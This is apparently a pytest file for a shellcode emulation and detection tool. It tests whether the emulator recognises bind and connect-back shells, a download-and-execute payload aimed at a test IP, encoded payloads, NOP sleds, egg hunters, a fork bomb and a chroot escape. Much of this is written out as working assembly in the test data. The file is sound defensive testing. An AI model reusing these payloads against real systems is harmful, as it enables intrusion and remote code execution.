"""Own shellcodes, for each CPU and each behaviour, plain and encoded, alone and in the middle of other bytes."""

from __future__ import annotations

import random

import pytest

from eudaemon.payload.shellcode.behaviour import Executes
from eudaemon.payload.shellcode.emulation.cpu import CPUS
from eudaemon.payload.shellcode.emulation.limits import Limits
from eudaemon.payload.shellcode.emulation.linux.numbers import ARGUMENTS, NUMBERS, SOCKETCALLS
from eudaemon.payload.shellcode.emulation.linux.system import HANDLERS
from eudaemon.payload.shellcode.emulation.trial import emulate
from eudaemon.payload.shellcode.report import Report
from payload.shellcode.assembling import KERNEL32, assemble, under_dword_xor, under_feedback, under_xor, windows32
from payload.shellcode.shellcodes import SHELLCODES, bind_cmd, connect_back_cmd, download_and_execute

PATIENT = Limits(seconds_max=30.0)  # what is asked here is what is found, not how fast


@pytest.mark.parametrize("name", SHELLCODES)
def test_a_shellcode_is_understood(name: str) -> None:
    architecture, make, behaviours = SHELLCODES[name]
    report = emulate(make(), limits=PATIENT)
    assert report is not None
    assert (report.architecture, report.behaviours) == (architecture, behaviours)
    assert report.offset <= 2  # its first instructions may not matter for what it does
    assert report.understood


@pytest.mark.parametrize("name", SHELLCODES)
def test_a_shellcode_of_a_known_cpu_is_understood(name: str) -> None:
    """What possession hands over: the bytes and the CPU that was about to run them."""
    architecture, make, behaviours = SHELLCODES[name]
    report = emulate(make(), limits=PATIENT, architectures=(architecture,))
    assert report is not None
    assert report.behaviours == behaviours


@pytest.mark.parametrize("way", KERNEL32)
def test_kernel32_is_found(way: str) -> None:
    report = emulate(windows32('push 0\ntext "calc"\napi WinExec\npush 0\napi ExitProcess', way), limits=PATIENT)
    assert report is not None
    assert report.behaviours == (Executes("calc"),)


@pytest.mark.parametrize(
    "encode",
    [
        lambda code: under_xor(code, 0x99),
        lambda code: under_dword_xor(code, b"\x11\x22\x33\x44"),
        lambda code: under_feedback(code, 0x1CEB00DA),
        lambda code: under_xor(under_dword_xor(under_feedback(code, 0x5EC0FFEE), b"abcd"), 7),
    ],
    ids=["xor", "dword xor", "feedback", "three layers"],
)
def test_an_encoded_shellcode_decodes_itself(encode) -> None:  # type: ignore[no-untyped-def]
    code = encode(bind_cmd())
    assert bind_cmd()[64:] not in code
    report = emulate(code, limits=PATIENT)
    assert report is not None
    assert report.behaviours == SHELLCODES["windows bind, cmd"][2]


@pytest.mark.parametrize("before", [1, 3, 64, 500, 4096])
@pytest.mark.parametrize(
    "name",
    ["windows connect back, cmd", "linux i386 connect back", "linux mips connect back", "linux thumb connect back"],
)
def test_a_shellcode_is_found_among_other_bytes(name: str, before: int) -> None:
    _, make, behaviours = SHELLCODES[name]
    rest = random.Random(before)
    report = emulate(rest.randbytes(before) + make() + rest.randbytes(200), limits=PATIENT)
    assert report is not None
    assert report.behaviours == behaviours


def test_a_sled_leads_to_the_code() -> None:
    report = emulate(b"USER " + b"\x90" * 600 + under_xor(connect_back_cmd(), 0x42) + b"\r\n", limits=PATIENT)
    assert report is not None
    assert report.behaviours == SHELLCODES["windows connect back, cmd"][2]


def test_the_trace_says_what_was_called() -> None:
    report = emulate(download_and_execute(), limits=PATIENT)
    assert report is not None
    assert [call.name for call in report.calls] == ["LoadLibraryA", "URLDownloadToFileA", "WinExec", "ExitThread"]
    assert report.calls[1].arguments == ("0", '"http://203.0.113.7:8080/a.exe"', '"c:\\a.exe"', "0", "0")
    assert str(report.calls[2]) == 'WinExec("c:\\a.exe", 0) = 0x21'
    assert report.ended == "exits (ExitThread)"


def test_the_listing_shows_what_was_decoded() -> None:
    plain, encoded = (emulate(code, limits=PATIENT, listing=True) for code in (bind_cmd(), under_xor(bind_cmd(), 0x99)))
    assert plain is not None
    assert encoded is not None
    assert plain.listing[0].split("  ")[-1] == "cld"
    text = "\n".join(encoded.listing)
    assert "xor byte ptr [edi], 0x99" in text
    assert "; bind(3, 0.0.0.0:4444, 0x10) = 0x0" in text
    # What runs behind the loop is the same code, moved.
    assert [line.split()[1] for line in plain.listing[:4]] == [
        line.split()[1] for line in encoded.listing[-len(plain.listing) :][:4]
    ]


def test_a_report_survives_the_way_between_processes() -> None:
    report = emulate(connect_back_cmd(), limits=PATIENT, listing=True)
    assert report is not None
    assert Report.from_json(report.as_json()) == report


def test_every_system_call_has_its_arguments() -> None:
    named = {name for table in (*NUMBERS.values(), SOCKETCALLS) for name in table.values()} | set(HANDLERS)
    assert named == set(ARGUMENTS)
    assert set(NUMBERS) == set(CPUS)


EGG = "mov eax, 0x50905090\nmov edi, ecx\nscasd\njne 2b\njmp edi\n"
OTHERS = {
    "sysenter": ("push 0\npush 0x68732f2f\npush 0x6e69622f\nmov ebx, esp\nxor ecx, ecx\nxor edx, edx\npush 11\n"
                 "pop eax\nsysenter\n", "executes /bin//sh"),
    "inherited connection": ("xor ebx, ebx\nmov ecx, esp\nmov edx, 0x200\npush 3\npop eax\nint 0x80\njmp ecx\n",
                             "receives code and runs it (a second stage)"),
    "fork bomb": ("1: push 2\npop eax\nint 0x80\njmp 1b\n", "fills the machine with its own processes"),
    # Asks the kernel page by page whether memory is there, and compares.
    "egg hunter": ("xor ecx, ecx\n1: or cx, 0xfff\n2: inc ecx\npush 67\npop eax\nint 0x80\ncmp al, 0xf2\nje 1b\n" + EGG,
                   "searches the memory for more code (an egg hunter)"),
    "egg hunter of Windows": ("xor ecx, ecx\n1: or cx, 0xfff\n2: inc ecx\nmov edx, ecx\npush 2\npop eax\nint 0x2e\n"
                              "cmp al, 5\nje 1b\n" + EGG, "searches the memory for more code (an egg hunter)"),
    # What is mapped is asked of mprotect: an egg hunter once more.
    "egg hunter by mprotect": ("xor ebx, ebx\n1: mov ecx, 0x1000\nmov edx, 7\npush 125\npop eax\nint 0x80\n"
                               "test eax, eax\njns 2f\nadd ebx, 0x1000\njmp 1b\n2: jmp ebx\n",
                               "searches the memory for more code (an egg hunter)"),
    "out of a chroot": ("push 0\npush 0x2e2e\nmov ebx, esp\nxor esi, esi\nmov si, 500\n1: push 12\npop eax\nint 0x80\n"
                        "dec esi\njnz 1b\nxor ecx, ecx\nxor edx, edx\npush ecx\npush 0x68732f2f\npush 0x6e69622f\n"
                        "mov ebx, esp\npush 11\npop eax\nint 0x80\n", "executes /bin//sh"),
    "an owner": ("xor eax, eax\ncdq\npush eax\npush 0x68732f2f\npush 0x6e69622f\nmov ebx, esp\nxor ecx, ecx\n"
                 "mov al, 182\nint 0x80\n", "changes the owner of /bin//sh"),
    # The text that is pushed ends where the stack was empty.
    "a text without an end": ("push 0x68732f2f\npush 0x6e69622f\nmov ebx, esp\nxor ecx, ecx\nxor edx, edx\npush 11\n"
                              "pop eax\nint 0x80\n", "executes /bin//sh"),
    "addresses of one Windows": ("push 0\npush 0x636c6163\nmov ecx, esp\npush 0\npush ecx\nmov eax, 0x7c8623ad\n"
                                 "call eax\n", "executes calc"),
    "such within a module's head": ("push 0\npush 0x3233\npush 0x5f327377\npush esp\nmov ebx, 0x7c801d7b\n"
                                    "call ebx\npush 0\npush 0x636c6163\nmov ecx, esp\npush 0\npush ecx\n"
                                    "mov ebx, 0x7c86250d\ncall ebx\n", "executes calc"),
}  # fmt: skip


def test_a_child_fetches_what_its_parent_starts() -> None:
    name, tool = "push 0\npush 0x78\nmov ebx, esp\n", "push 0\npush 0x74656777\nmov ebx, esp\n"
    source = (f"push 2\npop eax\nint 0x80\ntest eax, eax\njz 1f\npush 7\npop eax\nint 0x80\n{name}"
              f"xor ecx, ecx\nxor edx, edx\npush 11\npop eax\nint 0x80\n1: {tool}push 0\npush 0x782f68\n"
              "mov edx, esp\npush 0\npush edx\npush ebx\nmov ecx, esp\nxor edx, edx\npush 11\npop eax\n"
              "int 0x80\n")  # fmt: skip
    report = emulate(assemble("x86", source), limits=PATIENT)
    assert report is not None
    assert report.behaviours == (Executes("wget h/x"), Executes("x"))
    assert [call.name for call in report.calls] == ["fork", "execve", "fork", "waitpid", "execve"]


def test_a_code_for_one_windows_counts_on_a_functions_number() -> None:
    source = """
        mov rsi, gs:[0x60]
        mov rsi, [rsi+0x18]
        mov rsi, [rsi+0x10]
        lodsq
        mov rsi, [rax]
        mov rbx, [rsi+0x30]
        mov eax, [rbx+0x3c]
        mov eax, [rbx+rax+0x88]
        mov ecx, [rbx+rax+0x1c]
        add rcx, rbx
        mov eax, [rcx+4*0x527]
        add rax, rbx
        lea rcx, [rip+1f]
        xor edx, edx
        and rsp, -16
        call rax
    1:  .asciz "cmd"
    """
    report = emulate(assemble("x86-64", source), limits=PATIENT)
    assert report is not None
    assert report.behaviours == (Executes("cmd"),)


@pytest.mark.parametrize("way", OTHERS)
def test_other_ways(way: str) -> None:
    source, does = OTHERS[way]
    report = emulate(assemble("x86", source), limits=PATIENT)
    assert report is not None
    assert does in [str(behaviour) for behaviour in report.behaviours]
